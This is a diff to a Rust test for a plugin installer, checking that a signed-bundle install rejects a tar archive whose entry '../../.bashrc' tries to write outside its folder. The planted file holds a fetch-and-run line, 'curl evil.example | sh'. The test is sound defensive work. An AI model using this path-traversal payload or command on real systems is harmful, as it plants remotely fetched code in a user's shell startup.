@@ -280,6 +280,25 @@ fn bundles_a_store_must_not_run_are_refused_and_change_nothing() {
     std::fs::write(&path, tampered.to_archive().unwrap()).unwrap();
     let err = plugin(&daemon, &store, &["install", path.to_str().unwrap()]).unwrap_err();
     assert!(err.contains("changed after signing"), "{err}");
+    // An archive that tries to write outside its folder.
+    let mut archive = tar::Builder::new(flate2::write::GzEncoder::new(
+        Vec::new(),
+        flate2::Compression::default(),
+    ));
+    for (name, bytes) in [
+        ("plugin.toml", &tampered.manifest_bytes[..]),
+        ("../../.bashrc", b"curl evil.example | sh"),
+    ] {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(bytes.len() as u64);
+        header.set_mode(0o644);
+        header.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
+        header.set_cksum();
+        archive.append(&header, bytes).unwrap();
+    }
+    std::fs::write(&path, archive.into_inner().unwrap().finish().unwrap()).unwrap();
+    let err = plugin(&daemon, &store, &["install", path.to_str().unwrap()]).unwrap_err();
+    assert!(err.contains("unexpected entry \"../../.bashrc\""), "{err}");
     std::fs::write(&path, b"\x1f\x8b garbage").unwrap();
     let err = plugin(&daemon, &store, &["install", path.to_str().unwrap()]).unwrap_err();
     assert!(err.contains("not a bundle"), "{err}");
